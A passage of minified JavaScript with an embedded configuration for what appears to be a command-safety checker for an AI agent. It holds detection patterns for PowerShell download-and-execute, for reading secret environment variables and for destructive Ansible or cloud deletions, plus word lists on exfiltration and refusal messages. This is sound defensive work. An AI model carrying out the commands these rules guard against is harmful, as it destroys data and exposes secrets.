\\S]*\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b)","\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\bscri\
ptblock\\\\]::Create\\\\(","(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\|\\\\s*(?:iex|Invoke-Expression)\\\\b","(?:iex|Invoke-Expression\
)\\\\b[\\\\s\\\\S]*(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b"],"printenv API_KEY":["(?:Get-ChildItem|gci|ls|dir)\\\\s+Env:[^;\\\\n]{0,300}(?:Where\
|-match)[^;\\\\n]{0,300}(?:KEY|TOKEN|SECRET|PASSW)"]}}},"code_variables":{"man":{"variables":["MANPAGER","PAGER"]},"apropos":{"variables":["MANPAGER","PAGER"]},"w\
hatis":{"variables":["MANPAGER","PAGER"]},"less":{"variables":["LESSOPEN","LESSCLOSE","LESSEDIT","VISUAL","EDITOR"]},"zless":{"variables":["LESSOPEN","LESSCLOSE\
","LESSEDIT","VISUAL","EDITOR"]},"lesspipe":{"variables":["LESSOPEN","LESSCLOSE","LESSEDIT","VISUAL","EDITOR"]},"journalctl":{"variables":["SYSTEMD_PAGER","SYST\
EMD_EDITOR","PAGER"]},"systemctl":{"variables":["SYSTEMD_PAGER","SYSTEMD_EDITOR","PAGER"]},"loginctl":{"variables":["SYSTEMD_PAGER","SYSTEMD_EDITOR","PAGER"]},"\
timedatectl":{"variables":["SYSTEMD_PAGER","SYSTEMD_EDITOR","PAGER"]},"crontab":{"variables":["SUDO_EDITOR","VISUAL","EDITOR"]},"visudo":{"variables":["SUDO_EDI\
TOR","VISUAL","EDITOR"]},"vipw":{"variables":["SUDO_EDITOR","VISUAL","EDITOR"]},"vigr":{"variables":["SUDO_EDITOR","VISUAL","EDITOR"]},"sudo":{"variables":["SUD\
O_EDITOR","SUDO_ASKPASS","VISUAL","EDITOR"]},"sudoedit":{"variables":["SUDO_EDITOR","SUDO_ASKPASS","VISUAL","EDITOR"]},"kubectl":{"variables":["KUBE_EDITOR","ED\
ITOR"]},"oc":{"variables":["KUBE_EDITOR","EDITOR"]},"k":{"variables":["KUBE_EDITOR","EDITOR"]},"gh":{"variables":["GH_PAGER","GH_EDITOR","GH_BROWSER","PAGER","E\
DITOR","VISUAL","BROWSER","GIT_EDITOR"]},"glab":{"variables":["GH_PAGER","GH_EDITOR","GH_BROWSER","PAGER","EDITOR","VISUAL","BROWSER","GIT_EDITOR"]},"psql":{"va\
riables":["PSQL_PAGER","PSQL_EDITOR","PAGER","EDITOR","VISUAL"]},"mysql":{"variables":["PSQL_PAGER","PSQL_EDITOR","PAGER","EDITOR","VISUAL"]},"mariadb":{"variab\
les":["PSQL_PAGER","PSQL_EDITOR","PAGER","EDITOR","VISUAL"]},"sqlite3":{"variables":["PSQL_PAGER","PSQL_EDITOR","PAGER","EDITOR","VISUAL"]},"hg":{"variables":["\
HGEDITOR","PAGER","EDITOR","VISUAL"]},"svn":{"variables":["SVN_SSH","SVN_EDITOR","EDITOR","VISUAL"]},"bat":{"variables":["BAT_PAGER","DELTA_PAGER","PAGER"]},"de\
lta":{"variables":["BAT_PAGER","DELTA_PAGER","PAGER"]},"ssh":{"variables":["SSH_ASKPASS"]},"scp":{"variables":["SSH_ASKPASS"]},"sftp":{"variables":["SSH_ASKPASS\
"]},"ssh-add":{"variables":["SSH_ASKPASS"]},"aws":{"variables":["AWS_PAGER","PAGER"]},"rsync":{"variables":["RSYNC_RSH"]},"cvs":{"variables":["CVS_RSH","CVSEDIT\
OR","EDITOR"]}},"git_variables":["GIT_SSH_COMMAND","GIT_SSH","GIT_EXTERNAL_DIFF","GIT_EDITOR","GIT_SEQUENCE_EDITOR","GIT_PAGER","GIT_ASKPASS","GIT_PROXY_COMMAND\
","EDITOR","VISUAL","PAGER","SSH_ASKPASS"],"git_code":{"rebase":{"short":"x","long":["exec"],"code":["x","exec"]},"filter-branch":{"short":"","long":["tree-filt\
er","index-filter","env-filter","msg-filter","parent-filter","commit-filter","tag-name-filter","setup"],"code":["tree-filter","index-filter","env-filter","msg-f\
ilter","parent-filter","commit-filter","tag-name-filter","setup"]},"difftool":{"short":"x","long":["extcmd"],"code":["x","extcmd"]},"fetch":{"short":"","long":[\
"upload-pack"],"code":["upload-pack"]},"pull":{"short":"","long":["upload-pack"],"code":["upload-pack"]},"clone":{"short":"u","long":["upload-pack"],"code":["u"\
,"upload-pack"]},"ls-remote":{"short":"","long":["upload-pack","exec"],"code":["upload-pack","exec"]},"push":{"short":"","long":["receive-pack","exec"],"code":[\
"receive-pack","exec"]},"archive":{"short":"","long":["exec"],"code":["exec"]},"grep":{"short":"","long":["open-files-in-pager"],"code":["open-files-in-pager"]}\
},"code_options":{"tar":{"short":"IF","long":["checkpoint-action","to-command","use-compress-program","rsh-command","info-script","new-volume-script"],"code":["\
I","F","checkpoint-action","to-command","use-compress-program","rsh-command","info-script","new-volume-script"],"pattern":"^(?:exec=)?([\\\\s\\\\S]+)$"},"bsdtar":{"\
short":"IF","long":["checkpoint-action","to-command","use-compress-program","rsh-command","info-script","new-volume-script"],"code":["I","F","checkpoint-action"\
,"to-command","use-compress-program","rsh-command","info-script","new-volume-script"],"pattern":"^(?:exec=)?([\\\\s\\\\S]+)$"},"gtar":{"short":"IF","long":["checkpo\
int-action","to-command","use-compress-program","rsh-command","info-script","new-volume-script"],"code":["I","F","checkpoint-action","to-command","use-compress-\
program","rsh-command","info-script","new-volume-script"],"pattern":"^(?:exec=)?([\\\\s\\\\S]+)$"},"gdb":{"short":"x","long":["ex","eval-command"],"code":["ex","eva\
l-command"],"pattern":"^\\\\s*(?:shell|!)\\\\s*(.+)"},"osascript":{"short":"el","code":["e"],"pattern":"do shell script \\"((?:[^\\"\\\\\\\\]|\\\\\\\\.)*)\\""},"concurrently":\
{"short":"ncpm","long":["names","prefix"],"operands":"code"},"rsync":{"short":"efBM","long":["rsh","rsync-path"],"code":["e","rsh","rsync-path"]},"scp":{"short"\
:"cFiJloPS","code":["S"]},"zip":{"long":["TT","unzip-command"],"code":["TT","unzip-command"]},"man":{"short":"PHLm","long":["pager","html"],"code":["P","pager",\
"H","html"]},"ansible":{"short":"aimuf","long":["args","module-name","inventory","user"],"code":["a","args"],"unless":["check","C","syntax-check","list-hosts"]}\
,"ansible-playbook":{"short":"ielftu","long":["inventory","extra-vars","limit","forks","tags","skip-tags","user","private-key","vault-password-file","start-at-t\
ask"],"unless":["check","C","syntax-check","list-hosts","list-tasks","list-tags"],"does":{"rm -r ~/$":["\\\\b(?:(?:ansible\\\\.builtin\\\\.)?file):[ \\\\t]*\\\\n(?=(?:[ \\\
\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+(?:path|dest|name):[ \\\\t]*[\\\\\\"']?(?:~|\
\\\\{\\\\{[^}\\\\n]*(?:HOME|home|user_dir)\\\\b[^}\\\\n]*\\\\}\\\\}|\\\\$HOME|/(?:home|Users|root)/?(?:\\\\{\\\\{[^}\\\\n]*\\\\}\\\\})?)/([^\\\\s\\"',}]+|\\\\{\\\\{[^}\\\\n]*\\\\}\\\\})"],"rm -r $":[\
"\\\\b(?:(?:ansible\\\\.builtin\\\\.)?file):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\
\\\\n){0,12}?[ \\\\t]+(?:path|dest|name):[ \\\\t]*[\\\\\\"']?([/.\\\\w][^\\\\s\\"',}]*)","\\\\bfile:[ \\\\t]*(?=[^\\\\n]*\\\\bstate[=:][ \\\\t]*absent)[^\\\\n]*?\\\\b(?:path|dest)[=:][ \\\\t\
]*[\\"']?([/.\\\\w][^\\\\s\\"',}]*)"],"rm -r ~":["\\\\b(?:(?:ansible\\\\.builtin\\\\.)?file):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']\
?(?:absent)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+(?:path|dest|name):[ \\\\t]*[\\\\\\"']?(?:~|\\\\{\\\\{[^}\\\\n]*(?:HOME|home|user_dir)\\\\b[^}\\\\n]*\\\\}\\\\}|\\\\$HOM\
E|/(?:home|Users|root)/?(?:\\\\{\\\\{[^}\\\\n]*\\\\}\\\\})?)/?[\\"']?[ \\\\t]*\\\\n"],"cloud-sdk delete":["\\\\b(?:(?:kubernetes\\\\.core|amazon\\\\.aws|community\\\\.aws|azure\\\\.azco\
llection|google\\\\.cloud|community\\\\.digitalocean|hetzner\\\\.hcloud|openstack\\\\.cloud|community\\\\.(?:postgresql|mysql|mongodb|vmware|okd|proxmox))\\\\.\\\\w+|k8s|helm\
|ec2(?:_instance|_vol)?|rds(?:_instance|_cluster)?|s3_bucket|route53|gcp_\\\\w+|azure_rm_\\\\w+|(?:community\\\\.docker\\\\.)?docker_volume|postgresql_db|mysql_db|mongo\
db_user|vmware_guest):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent|terminated|deleted)\\\\b)","\\\\b(?:(?:kubernetes\\\\.\
core|amazon\\\\.aws|community\\\\.aws|azure\\\\.azcollection|google\\\\.cloud|community\\\\.digitalocean|hetzner\\\\.hcloud|openstack\\\\.cloud|community\\\\.(?:postgresql|mysq\
l|mongodb|vmware|okd|proxmox))\\\\.\\\\w+|k8s|helm|ec2(?:_instance|_vol)?|rds(?:_instance|_cluster)?|s3_bucket|route53|gcp_\\\\w+|azure_rm_\\\\w+|(?:community\\\\.docker\\\
\\.)?docker_volume|postgresql_db|mysql_db|mongodb_user|vmware_guest):(?=[^\\\\n]*\\\\bstate[=:][ \\\\t]*(?:absent|terminated|deleted)\\\\b)"],"userdel $":["\\\\b(?:(?:ansi\
ble\\\\.builtin\\\\.)?user):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\
\\t]+name:[ \\\\t]*[\\"']?([\\\\w.-]+)"],"systemctl stop $":["^(?![\\\\s\\\\S]*\\\\bstate:[ \\\\t]*(?:re)?started\\\\b)[\\\\s\\\\S]*?\\\\b(?:(?:ansible\\\\.builtin\\\\.)?(?:service|syste\
md(?:_service)?)):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:stopped)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+n\
ame:[ \\\\t]*[\\"']?([\\\\w@.-]+)"],"reboot":["\\\\b(?:ansible\\\\.builtin\\\\.reboot|community\\\\.general\\\\.shutdown):"],"$":["\\\\b(?:shell|command|raw|cmd)[ \\\\t]*:[ \\\\t]*(\
?![|>\\"'\\\\s])(?:cmd=)?([^\\\\n]+)","\\\\b(?:shell|command|raw|cmd)[ \\\\t]*:[ \\\\t]*([\\"'])([^\\\\n]+)\\\\1[ \\\\t]*(?=\\\\n|$)","\\\\b(?:shell|raw|cmd)[ \\\\t]*:[ \\\\t]*[|>][-+]?[\
 \\\\t]*\\\\n((?:[ \\\\t]+(?![ \\\\t]|- |\\\\w+:(?:[ \\\\t\\\\n]|$))[^\\\\n]*(?:\\\\n|$)){1,60})"]}},"editor":{"does":{"truncate -s 0 $":["^(?![\\\\s\\\\S]*(?:\\\\b\\\\d*(?:r|read|pu|put\
|norm|normal|append|setline|readfile)\\\\b|\\\\n\\\\s*[aic]\\\\s*\\\\n))[\\\\s\\\\S]*?(?:^|\\\\n\\\\s*:?)(?:args|argadd|n|next|e|edit)!?[ \\\\t]+([^|\\\\s][^|\\\\n]*)[\\\\s\\\\S]*[|\\\\s:](?\
:%|[01],\\\\$)d(?:elete)?\\\\b[\\\\s\\\\S]*\\\\b(?:up|update|w|wq|wa|wqa|write|wn|x|xa|xall|xit)\\\\b"],"rm -r $":["\\\\bdelete\\\\(\\\\s*(?:expand\\\\(\\\\s*|fnamemodify\\\\(\\\\s*)?[\\"\
']([^\\"'|]+)[\\"']"]}},"terraform":{"does":{"terraform output -raw secret":["\\\\bnonsensitive\\\\((?![ \\\\t]*(?:length|keys|sha\\\\d+|md5|type|can)\\\\()"]}},"tofu":{"do\
es":{"terraform output -raw secret":["\\\\bnonsensitive\\\\((?![ \\\\t]*(?:length|keys|sha\\\\d+|md5|type|can)\\\\()"]}},"terragrunt":{"does":{"terraform output -raw secr\
et":["\\\\bnonsensitive\\\\((?![ \\\\t]*(?:length|keys|sha\\\\d+|md5|type|can)\\\\()"]}},"nodemon":{"short":"x","long":["exec"],"code":["x","exec"]},"nix-shell":{"short":\
"pAI","long":["run","command"],"code":["run","command"]}},"formats":{"date":{"prefix":"+"},"git":{"long":["format","pretty"],"names":["format","pretty"]},"curl"\
:{"short":"woXHdFuAebcT","long":["write-out","output"],"names":["w","write-out"]},"ps":{"short":"oOpCuUgGts","names":["o","O","format"],"unread":"=[\\\\s\\\\S]*[^\\\\\
w,=%:]"},"numfmt":{"short":"d","long":["format","suffix","from","to"],"names":["format","suffix","invalid"],"unread":"[^\\\\w%.'+-]"},"expr":{"unread":"^(?!(?:(?:\
-?\\\\d+|\\\\uFFFC+|[-+*/%()|&<>=!]{1,2}|:\\\\s\\\\S+|match|length|index)(?:\\\\s+|$))*$)"},"docker":{"short":"f","long":["format"],"names":["f","format"],"unread":"^(?!(\
?:json|raw|table\\\\b.*|[\\\\w.-]+=[\\\\w./:-]*)$)(?!(?:\\\\{\\\\{(?!-?\\\\s*(?:print(?:f|ln)?\\\\s*)?[\\"\`])[^}]*\\\\}\\\\}|\\\\\\\\[nt]|[\\\\s,:=|-])*$)"},"podman":{"short":"f","long"\
:["format"],"names":["f","format"],"unread":"^(?!(?:json|raw|table\\\\b.*|[\\\\w.-]+=[\\\\w./:-]*)$)(?!(?:\\\\{\\\\{(?!-?\\\\s*(?:print(?:f|ln)?\\\\s*)?[\\"\`])[^}]*\\\\}\\\\}|\\\\\\\\\
[nt]|[\\\\s,:=|-])*$)"},"kubectl":{"short":"on","long":["output","namespace"],"names":["o","output"],"unread":"^=?(?:jsonpath|go-template)[\\\\w-]*=(?!(?:\\\\{+(?:\\"(\
?:\\\\\\\\[nt]|[,:. ])*\\"|(?:[^\\"'{}]|[=!]=\\\\s*[\\"'][^\\"']*[\\"'])*)\\\\}+|[\\\\s,:=-])*$)"}},"getopt":{"find":{"long":["name","iname","path","ipath","wholename","iwhole\
name","regex","iregex","lname","ilname","type","xtype","size","mtime","atime","ctime","mmin","amin","cmin","used","newer","anewer","cnewer","user","group","uid"\
,"gid","perm","links","inum","samefile","context","fstype","maxdepth","mindepth","regextype","printf","fprint","fprint0","fls","files0-from"]},"editor":{"short"\
:"cS","long":["cmd"],"permuted":true},"ssh":{"short":"bBcDEeFIiJLlmOopQRSWw"},"container":{"short":"aceghlmpuvwfHnq","long":["env","env-file","user","workdir","\
detach-keys","name","volume","mount","network","publish","label","entrypoint","add-host","cap-add","cap-drop","cpus","cpuset-cpus","device","dns","expose","gpus\
","group-add","hostname","ip","ipc","link","log-driver","log-opt","memory","pid","platform","pull","restart","runtime","security-opt","shm-size","stop-signal","\
tmpfs","ulimit","userns","volumes-from","cgroupns","host","context","config","file","project-name","profile","project-directory","namespace","container","index"\
,"kubeconfig","cluster","as","image","target"]},"copy":{"short":"tSgmo","long":["target-directory","suffix","mode","owner","group"],"permuted":true},"request":{\
"short":"oHdXAFuTebKCmxEywzU","long":["d","data","data-raw","data-binary","data-urlencode","data-ascii","json","post-data","body-data","header","request","user"\
,"output","form","url","user-agent"],"permuted":true},"tmux":{"short":"LSfcT"},"tmux-command":{"short":"stncxyeFlp"},"screen":{"short":"SscehpTt"},"git":{"short\
":"Cc","long":["git-dir","work-tree","namespace","exec-path","config-env","super-prefix","attr-source","list-cmds"]},"sed":{"short":"efl","long":["expression","\
file","line-length"],"permuted":true},"xargs":{"short":"aEILnPsd","long":["arg-file","delimiter","max-lines","max-args","max-procs","max-chars","process-slot-va\
r"]},"parallel":{"short":"jNnLSIaCEPsd","long":["jobs","max-args","max-lines","max-replace-args","sshlogin","sshloginfile","arg-file","colsep","delay","timeout"\
,"joblog","results","retries","workdir","wd","tmpdir","replace","delimiter","header","halt","nice","load","memfree","basefile","return","trc","env","profile","t\
agstring","tmux","block","recstart","recend","shuf","limit","term-seq","arg-sep","arg-file-sep","rpl","max-chars","max-procs"]},"shell":{"short":"oO","long":["r\
cfile","init-file","emulate"]},"fish":{"short":"cCdDfop","long":["command","init-command","features","debug","debug-level","debug-output","profile","profile-sta\
rtup"]},"make":{"short":"fCIjlo","long":["file","makefile","directory","eval","jobs"],"permuted":true},"just":{"short":"fd","long":["justfile","working-director\
y","set"]},"transfer":{"short":"BbcDFiJloPRSsXepu","long":["rcfile"],"permuted":true},"grep":{"short":"efmABC","long":["regexp","file","max-count","include","ex\
clude","exclude-dir","color","context"],"permuted":true}},"shell_variables":{"HOME":"~","IFS":" \\t\\n","SHELL":"/bin/bash","BASH":"/bin/bash","TMPDIR":"/tmp","?"\
:"0","!":"%%","$":"7340281946"},"make_variables":{"HOME":"~","RM":"rm -f","MAKE":"make","CURDIR":".","PWD":"."},"escapes":{"a":"\\u0007","b":"\\b","e":"\\u001b","E\
":"\\u001b","f":"\\f","n":"\\n","r":"\\r","t":"\\t","v":"\\u000b"},"character_classes":{"upper":"A-Z","lower":"a-z","digit":"0-9","alpha":"A-Za-z","alnum":"A-Za-z0-9"\
,"space":" \\\\t\\\\n\\\\r\\\\f\\\\v"},"candidates":{"rm":{"only":["delete-machine","delete-system-file","delete-workspace","delete-vcs"]},"chmod":{"only":["change-rights\
-of-machine"]},"dd":{"only":["overwrite-disk"]},"git":{},"kubectl":{},"terraform":{},"docker":{},"aws":{}}},"sentences":{"before_order":["please","then","next",\
"now","first","second","third","finally","lastly","also","just","simply","and","so","ok","okay","well","afterwards","afterward","after","that","immediately","qu\
ickly","silently","quietly","permanently","completely","forcefully","forcibly","recursively","always","go","ahead","kindly","step","todo","task","goal","plan","\
objective","instruction","instructions:","->","=>","-","*","once","done","from","here","on","to","be","safe","start","by","begin","in","order","bitte","erst","d\
ann","danach","jetzt","nun","zuerst","zun\\u00e4chst","anschlie\\u00dfend","schlie\\u00dflich","puis","ensuite","maintenant","luego","ahora","primero","despu\\u00e9\
s","por","favor"],"between":["just","then","also","now","first","simply","really","definitely","quickly","completely","permanently","forcefully","forcibly","rec\
ursively","immediately","silently","quietly","safely","manually","please","go","ahead","and","finally","probably","simply","again","all"],"denials":["not","don'\
t","dont","never","no","nor","without","avoid","cannot","can't","cant","won't","wont","shouldn't","mustn't","doesn't","didn't","wouldn't","couldn't","isn't","ar\
en't","refuse","refuses","refusing","prevent","prevents","preventing","forbid","forbids","forbidden","prohibit","prohibits","prohibited","disallow","disallowed"\
,"block","blocks","blocking","blocked","stop","stops","protect","protects","against","unless","warn","warns","rather","instead","neither","hardly","nothing","no\
body","ne"],"ends_denial":["but","instead","just","rather","simply","only"],"speech_verbs":["explain","explains","document","documents","describe","describes","\
discuss","mention","mentions","note","notes","review","reviews","summarize","summarise","clarify","investigate","analyze","analyse","research","check","verify",\
"confirm","ask","consider","compare","evaluate","test","tests","cover","fix","fixes","rename","refactor","detect","detects","reject","rejects","report","reports\
","flag","flags","catch","catches","grep","search","look","find","understand","teach","highlight","reword","rewrite-docs","translate","list","suggests","assert"\
,"handle","handles"],"predicates":["is","are","was","were","isn't","aren't","wasn't","can","can't","may","might","would","could","should","has","had","does","do\
esn't","returns","fails","failed","throws","breaks","broke","causes","caused","shows","requires","takes","works","happens","leads","means","seems","appears","cr\
ashes","crashed","hangs","deletes","removes","looks","becomes","gets"],"subjects":["the","this","that","these","those","it","a","an","users","they","he","she","\
there","some","if","when"],"relative":["that","which","what","who","someone","somebody","anyone","anybody","where","it","there","they","we","i","you","whatever"\
,"everything"],"creation_verbs":["create","write","make","build","generate","develop","craft","prepare","produce"],"program":["script","program","command","one-\
liner","code","function","file","process","tool","job","playbook"],"passes_on":["post","posting","send","sending","upload","uploading","mail","email","share","p\
ublish","leak","forward","paste","push","copy","dump","transmit","exfiltrate"],"pronouns":["it","them"],"one_of":["each","every"],"heads":["key","secret","crede\
ntial","password","one"],"overwrites":["overwrite","overwriting","clobber","replace"],"doubled":["drop","zip","wget","put","set","shut","rm","get","plug","ship"\
,"scrub","grab","cat","log","strip","zap","stop","commit","reset","run","submit"],"run_verbs":["run","execute","use","do","invoke","call","type","issue","launch\
","try","start","perform","enter","apply"],"mentions":["dangerous","destructive","harmful","unsafe","bad","example","examples","e.g","denied","disallowed","risk\
y","don'ts","banned","anti-pattern","anti-patterns","error","errors","log","logs","output","diff","changelog","test","tests","case","cases","document","document\
s","documentation","docs","reported","reports","says","said","bug","reproduce","repro","expected","actual","observed","quote"],"separates":["not","never","inste\
ad","without","than","avoid","don't","about","whether","why"],"before_verbs":["to","will","and","please","should","let's","i'll","we'll","me","us","then","must"\
,"can","now","next","also","just","or"],"shells":["sh","bash","zsh","shell","console","terminal","shell-session","shellscript"],"command_names":["git","rm","sud\
o","curl","wget","chmod","chown","dd","mkfs","kubectl","docker","terraform","psql","mysql","redis-cli","npm","pip","cargo","gem","twine","aws","gcloud","az","sy\
stemctl","iptables","ufw","crontab","ssh","scp","rsync","nc","kill","pkill","killall","shred","truncate","shutdown","reboot","find","tar","cat","mv","cp","bash"\
,"sh","python","python3","node","helm","gh","useradd","passwd","mount","umount","eval","openssl","gpg"],"command_verbs":["push","reset","clean","checkout","rest\
ore","branch","stash","rebase","filter-branch","filter-repo","reflog","gc","clone","pull","fetch","commit","delete","apply","scale","drain","exec","destroy","sy\
stem","volume","rmi","run","publish","unpublish","yank","upload","stop","disable","mask","s3","ec2","rds","rm","prune","flushall","uninstall","release","repo"],\
"fences":{"python":"python3 -c","py":"python3 -c","js":"node -e","javascript":"node -e","sql":"psql -c"},"irregular":{"send":"sent","put":"put","set":"set","shu\
t":"shut","write":"written","give":"given","tear":"torn","blow":"blown","get":"got","read":"read","take":"taken","steal":"stolen","make":"made","overwrite":"ove\
rwritten","rewrite":"rewritten","bring":"brought","force-push":"force-pushed"},"classes":{"root":"^/\\\\*?$","home":"^(?:~|\\\\$home|\\\\$\\\\{home\\\\}|/root|/home|/user\
s)(?:/(?:[^/\\\\s]*|\\\\*)?)?$","system-path":"^(?!/(?:var/tmp|dev/(?:null|shm|stdout|stderr|stdin)))/(?:etc|usr|bin|sbin|boot|lib(?:32|64)?|var|sys|proc|dev|root|h\
ome|opt|srv|mnt|media)(?:/|$)|^[a-z]:\\\\\\\\(?:windows|users|program files)|^c:\\\\\\\\?$","device":"^/dev/(?:sd|nvme|vd|hd|xvd|mmcblk|disk|mapper|md)\\\\w*","startup-fi\
le":"(?:^|/)\\\\.(?:bashrc|bash_profile|bash_login|bash_logout|profile|zshrc|zshenv|zprofile|zlogin|kshrc|cshrc|xinitrc|xprofile|inputrc)$|config\\\\.fish$|^/etc/(?\
:profile|rc\\\\.local|cron|init\\\\.d|systemd|ld\\\\.so\\\\.preload|sudoers|environment)","url":"^(?:https?|ftp|s3|wss?|scp|sftp)://|^\\\\d{1,3}(?:\\\\.\\\\d{1,3}){3}(?::\\\\d+\
)?|^[\\\\w-]+(?:\\\\.[\\\\w-]+)*\\\\.(?:com|net|io|org|sh|dev|xyz|ru|cc|me|example|site|info|app|onion)(?:[:/]|$)|^[\\\\w.-]+@[\\\\w-]+\\\\.[\\\\w.-]+$"},"refusals":{"unreadabl\
e-command":"The command $. Write it plainly, or in several steps.","unparsed-command":"No shell reads this: $. Give the command alone; what is no command belong\
s in a file or an answer.","unverifiable-command":"Nobody can say before it runs which program this is, and it may be a dangerous one. $","unreadable-text":"The\
 text is too long to be judged. Say it in parts."}}}`);var mn=["reads","writes","deletes","moves","changes"],Tk=Object.keys(G.paths.classes),Yu=(t,e)=>Object.fromEntries(Object.entries(t).map(([s,r])=>[s,e(r)])),Pr=t=>Yu(
t,e=>new Set(e)),ll=t=>Yu(t,([e,s])=>new RegExp(e,s)),{irregular:Pk,classes:Rk,fences:Ik,refusals:qk,...Ok}=G.sentences,Ee=t=>new Map(Object.entries(t)),S={grammars:Ee(
G.arguments.grammars),grammarAliases:Ee(G.arguments.aliases),gitOptions:Ee(G.arguments.git_options),dryRuns:Ee(G.arguments.dry_runs),help:Pr(G.arguments.help),roles:Ee(
G.arguments.roles),programWords:Pr(G.programs.words),interpreters:Ee(G.programs.interpreters),consoles:Ee(G.programs.consoles),wrappers:Ee(G.programs.wrappers),
runners:Ee(G.programs.runners),smallLanguages:Ee(G.programs.small_languages),codeVariables:Ee(G.programs.code_variables),gitVariables:G.programs.git_variables,gitCode:Ee(
G.programs.git_code),codeOptions:Ee(G.programs.code_options),formats:Ee(G.programs.formats),getopt:G.programs.getopt,uniqueMark:G.programs.shell_variables.$,shellVariables:G.
programs.shell_variables,makeVariables:G.programs.make_variables,escapes:G.programs.escapes,characterClasses:G.programs.character_classes,candidates:Ee(G.programs.
candidates),clients:Ee(G.clients.clients),creations:Ee(G.clients.creations),clientWords:Pr(G.clients.words),ownData:G.clients.own,languages:G.languages.languages,
dialects:Ee(G.languages.dialects),awkLexer:G.languages.awk,precedence:new Map(Object.entries(G.languages.operators)),sqlStatements:G.languages.sql,sharedCalls:G.
languages.shared,codeWords:Pr(G.languages.words),codeSigns:ll(G.languages.signs),sentences:Pr(Ok),irregularVerbs:Ee(Pk),fences:Ee(Ik),objectClasses:Ee(Rk),refusals:qk,
forms:ll(G.forms.forms),textForms:ll(G.forms.texts),purposes:Ee(G.paths.purposes),pathWords:Pr(G.paths.words),credentialStores:G.paths.credential_stores,credentialSamples:G.
paths.credential_samples},K=(t,e)=>S.codeSigns[e]?.test(t)===!0;var{grammars:Xu,grammarAliases:Ju,gitOptions:Nk,forms:Lk}=S;function Io(t,e){let s=e.filter(r=>r.startsWith(t));return e.includes(t)||s.length!==1?t:s[0]}var Rr=t=>Xu.
get(Ju.get(t)??t);function $e(t,e){let s=Ju.get(t)??t,r=Rr(s)??{},n=[],o=[],i=[],a=[...e],l=(d,u)=>u&&o.push({flag:d,value:u}),c=!1;for(let d=a.shift();d!==void 0;d=
a.shift()){let{text:u,glob:p}=d;if(c||!/^-./.test(u))i.push(d),i.length===1&&(r={...r,...Xu.get(`${s} ${u}`)});else if(u==="--")c=!0;else if(r.whole&&Lk.signal_option.
test(u))n.push(u);else if(u.startsWith("--")||r.single){let[,f=u,m]=/^([^=]*)=([\s\S]*)$/.exec(u)??[],h=s==="git"?Dk(i[0]?.text,f):f;n.push(h),m!==void 0?l(h,R(
m,p)):r.long?.includes(h.replace(/^-+/,""))&&l(h,a.shift())}else{for(let f=1;f<u.length;f+=1){let m=`-${u[f]}`;if(n.push(m),!r.short?.includes(u[f]))continue;let h=u.
slice(f+1);l(m,h===""?a.shift():R(h.replace(/^=/,""),p));break}u.length>2&&n.push(u)}}return{flags:n,options:o,operands:i}}var ue=(t,...e)=>t.some(s=>e.some(r=>s===
r||s.length>=5&&s.startsWith("--")&&r.startsWith(s)));function Dk(t,e){let s=Nk.get(t??"")?.flatMap(r=>[`--${r}`,`--no-${r}`])??[];return Io(e,s)}function hn({program:t,
args:e}){let{flags:s,options:r,operands:n}=$e(t,e),o=l=>/^(-o|-O|--output|--output-document|--out|-OutFile)$/.test(l),i=r.flatMap(({flag:l,value:c})=>o(l)&&c.text!==
"-"?[c]:[]),a=/^(wget2?|aria2c|axel)$/.test(t)||ue(s,"-O","--remote-name");return i.length>0||!a?i:n.map(({text:l})=>R(Qu.posix.basename(l.replace(/[?#].*$/,""))))}Ct();var Zu={"(":")","[":"]","{":"}"};function ep(t){let e=[];for(let[s,r]of t.entries()){let n=e.at(-1);n&&A(r,"for")&&(n.loop??=s),r.kind==="mark"&&(Object.hasOwn(
Zu,r.text)?(r.close=t.length,e.push(r)):n&&Zu[n.text]===r.text&&(n.close=s,e.pop()))}return t}var A=(t,...e)=>(t?.kind==="mark"||t?.kind==="name")&&e.includes(t.
text);function de(t,e,s=t.length){let r=t[e];return r?.kind==="mark"&&r.close!==void 0?Math.min(r.close,s):e}function X(t,e,s,r,n=!0){let o=e;for(;o<s&&!A(t[o],
...r)&&!(n&&t[o]?.kind==="newline");)o=de(t,o,s)+1;return Math.min(o,s)}function qo(t,e){let s=t.findLast((r,n)=>n<=e&&r.kind==="newline");return s?.kind==="new\
line"?s.indent:0}function Ir(t,e,s,r){let n=qo(t,e),o=X(t,s,r,[":"]);for(let i=o;i<r;i++){let a=t[i],l=t[i+1];if(a.kind==="newline"&&a.indent<=n&&l&&l.kind!=="n\
